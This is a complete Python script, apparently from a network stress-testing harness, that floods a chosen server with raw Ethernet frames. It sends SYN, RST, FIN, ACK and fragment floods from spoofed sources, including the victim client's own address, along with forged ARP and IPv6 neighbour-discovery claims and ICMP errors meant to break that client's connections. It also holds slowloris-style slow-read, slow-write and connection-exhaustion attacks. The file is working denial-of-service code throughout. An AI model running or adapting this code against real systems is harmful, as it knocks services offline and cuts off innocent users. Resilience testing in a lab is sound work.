# SPDX-License-Identifier: BSD-3-Clause
"""One attack on a server, until SIGINT; then it prints how many frames it sent, or how many
connections it has opened, and lets go.

usage: fire_attack.py NAME INTERFACE OUR_MAC SERVER_MAC CLIENT SERVER PORT RATE   (as root)

Frames have sources that do not exist, or are in the name of CLIENT, whose connections it is
that are to suffer. RATE is frames, or connections, a second; 0: as fast as it can.
"""
import contextlib
import ipaddress
import random
import resource
import select
import signal
import socket
import struct
import sys
import time

from flood import checksum, octets

FRAMES = 4096                           # Different ones.
MANY = 10000                            # Connections.
FIN, SYN, RST, ACK = 1, 2, 4, 16
ETHERTYPE = {4: 0x0800, 6: 0x86dd}
BATCH_SECONDS = 0.002
BROADCAST = b'\xff' * 6


class Frames:
    """Makers of one frame each."""

    def __init__(self, our_mac, server_mac, client, server, port):
        self.ours, self.theirs = octets(our_mac), octets(server_mac)
        self.client, self.server = ipaddress.ip_address(client), ipaddress.ip_address(server)
        self.version = self.client.version
        self.port = port
        self.random = random.Random(1)

    def number(self, bits=32):
        return self.random.getrandbits(bits)

    def stranger(self):
        """On the link, or behind a gateway."""
        if self.version == 4:
            return ipaddress.ip_address((0x0a4d0000 if self.number(1) else 0x0ac80000)
                                        + self.number(16))
        return ipaddress.ip_address(int(self.client) // 65536 * 65536 + self.number(16)) \
            if self.number(1) else ipaddress.ip_address((0xfd008888 << 96) + self.number(64))

    def anybody(self):
        return self.client if self.number(1) else self.stranger()

    def ethernet(self, packet, dest=None, kind=None):
        return (dest or self.theirs) + self.ours \
            + struct.pack('!H', kind or ETHERTYPE[self.version]) + packet

    def ip(self, source, protocol, text, fragment=0, hops=64, dest=None):
        dest = dest or self.server
        if self.version == 6:
            if fragment:
                text = struct.pack('!BBHI', protocol, 0, fragment & 0xfff8 | fragment >> 13,
                                   self.number()) + text
                protocol = 44
            return struct.pack('!IHBB', 6 << 28, len(text), protocol, hops) \
                + source.packed + dest.packed + text
        head = struct.pack('!BBHHHBBH', 0x45, 0, 20 + len(text), self.number(16), fragment, hops,
                           protocol, 0) + source.packed + dest.packed
        return head[:10] + struct.pack('!H', checksum(head)) + head[12:] + text

    def sum(self, source, dest, protocol, text):
        pseudo = source.packed + dest.packed + struct.pack('!II', len(text), protocol)
        return struct.pack('!H', checksum(pseudo + text + bytes(len(text) % 2)))

    def segment(self, flags, source=None):
        source = source or self.anybody()
        options = struct.pack('!BBHBBII', 2, 4, 1460, 8, 10, self.number(), 0) + b'\x01\x01' \
            if self.number(1) else b''
        tcp = struct.pack('!HHIIHHHH', 1024 + self.number(16) % 64512, self.port, self.number(),
                          self.number() if flags & ACK else 0,
                          (20 + len(options)) // 4 << 12 | flags, self.number(16), 0, 0) + options
        return source, tcp[:16] + self.sum(source, self.server, 6, tcp) + tcp[18:]

    def tcp(self, flags, fragment=0):
        source, tcp = self.segment(flags)
        return self.ethernet(self.ip(source, 6, tcp, fragment))

    def syn(self):
        return self.tcp(SYN)

    def half_open(self):
        """Of who answers nothing."""
        source, tcp = self.segment(SYN, self.stranger())
        return self.ethernet(self.ip(source, 6, tcp))

    def ack(self):
        return self.tcp(ACK)

    def rst(self):
        return self.tcp(RST | ACK * self.number(1))

    def fin(self):
        return self.tcp(FIN | ACK)

    def fragment(self):
        return self.tcp(ACK, 0x2000 if self.number(1) else 1 + self.number(6))

    def arp(self):
        """Questions, answers and claims: of strangers, of the client, of the server itself."""
        who = (self.client, self.server, self.stranger())[self.number(8) % 3]
        mac = b'\x02' + self.random.randbytes(5)
        return self.ethernet(struct.pack('!HHBBH', 1, 0x0800, 6, 4, 1 + self.number(1)) + mac
                             + who.packed + self.theirs + self.server.packed, BROADCAST, 0x0806)

    def icmpv6(self, source, kind, code, body, hops=255):
        icmp = struct.pack('!BBH', kind, code, 0) + body
        icmp = icmp[:2] + self.sum(source, self.server, 58, icmp) + icmp[4:]
        return self.ethernet(self.ip(source, 58, icmp, hops=hops))

    def nd(self):
        who = (self.client, self.stranger())[self.number(1)]
        mac = b'\x02' + self.random.randbytes(5)
        if self.number(1):
            return self.icmpv6(who, 135, 0, bytes(4) + self.server.packed + b'\x01\x01' + mac)
        target = (who, self.server)[self.number(1)]
        return self.icmpv6(who, 136, 0, struct.pack('!I', self.number(3) << 29) + target.packed
                           + b'\x02\x01' + mac)

    def icmp(self):
        """An echo request, or an error about a connection of the client's."""
        kind = self.number(8) % 3
        source = self.anybody()
        if kind == 0:
            body = bytes(60)
        else:
            tcp = struct.pack('!HHI', self.port, 1024 + self.number(16) % 64512, self.number())
            body = struct.pack('!I', self.number(11)) \
                + self.swapped(self.ip(self.client, 6, tcp + bytes(12)))
        if self.version == 6:
            return self.icmpv6(source, (128, 1, 2)[kind], (0, 4, 0)[kind], body)
        icmp = struct.pack('!BBH', (8, 3, 3)[kind], (0, 3, 4)[kind], 0) + body
        icmp = icmp[:2] + struct.pack('!H', checksum(icmp)) + icmp[4:]
        return self.ethernet(self.ip(source, 1, icmp))

    def swapped(self, packet):
        """From the server to the client: neither sum changes."""
        at, size = (12, 4) if self.version == 4 else (8, 16)
        middle, end = at + size, at + 2 * size
        return packet[:at] + packet[middle:end] + packet[at:middle] + packet[end:]


class Stopped(KeyboardInterrupt):
    pass


def send_all(interface, make, rate):
    """@return frames sent."""
    made = [make() for _ in range(FRAMES)]
    sent, start = 0, time.monotonic()
    print('ready', flush=True)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock, \
            contextlib.suppress(Stopped):
        sock.bind((interface, 0))
        while True:
            due = int((time.monotonic() - start) * rate) - sent if rate else 1000
            for _ in range(due):
                with contextlib.suppress(OSError):      # The interface's queue is full.
                    sock.send(made[sent % FRAMES])
                    sent += 1
            if rate:
                time.sleep(BATCH_SECONDS)
    return sent


# What is said at first, and again and again by one after the other.
TALK = {
    'slow_readers': (b'GET / HTTP/1.1\r\nHost: a\r\n\r\n', b''),
    'slow_writers': (b'POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\nx', b'y'),
    'hold': (b'', b''),
}


class Crowd:
    """Ten thousand sockets of the kernel's; whose connection is ended opens another."""

    def __init__(self, server, port, talk):
        self.target = (server, port)
        self.family = socket.AF_INET6 if ':' in server else socket.AF_INET
        self.first, self.again = talk
        self.poll = select.epoll()
        self.socks = {}
        self.opened, self.turn, self.numbers = 0, 0, []

    def open(self):
        sock = socket.socket(self.family)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        # So that nothing of it stays behind.
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))
        sock.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            sock.connect(self.target)
        self.socks[sock.fileno()] = sock
        self.poll.register(sock.fileno(), select.EPOLLOUT | select.EPOLLET)

    def say(self, sock, text):
        with contextlib.suppress(OSError):
            sock.send(text)

    def events(self, timeout):
        for number, event in self.poll.poll(timeout, 1000):
            if event & (select.EPOLLHUP | select.EPOLLERR):
                self.socks.pop(number).close()
            elif event & select.EPOLLOUT:
                self.poll.modify(number, 0)
                self.opened += 1
                self.say(self.socks[number], self.first)

    def next_says(self):
        if self.turn % MANY == 0:
            self.numbers = list(self.socks)
        sock = self.socks.get(self.numbers[self.turn % len(self.numbers)])
        self.turn += 1
        if sock:
            self.say(sock, self.again)

    def go_on(self, rate):
        """It is ready once so many have tried."""
        start, done, tried = time.monotonic(), 0, 0
        while True:
            due = int((time.monotonic() - start) * rate) - done if rate else 100
            for _ in range(due):
                done += 1
                if len(self.socks) < MANY:
                    self.open()
                    tried += 1
                    if tried == MANY:
                        print('ready', flush=True)
                elif self.again:
                    self.next_says()
            self.events(BATCH_SECONDS)

    def close(self):
        for sock in self.socks.values():
            sock.close()


def crowd(name, server, port, rate):
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    all_of_them = Crowd(server, port, TALK[name])
    with contextlib.suppress(Stopped):
        all_of_them.go_on(rate)
    all_of_them.close()
    return all_of_them.opened


def stop(*_):
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    raise Stopped


def main(name, interface, our_mac, server_mac, client, server, port, rate):
    signal.signal(signal.SIGINT, stop)
    if name in TALK:
        print(crowd(name, server, int(port), int(rate)))
    else:
        frames = Frames(our_mac, server_mac, client, server, int(port))
        print(send_all(interface, getattr(frames, name), int(rate)))


if __name__ == '__main__':
    main(*sys.argv[1:])
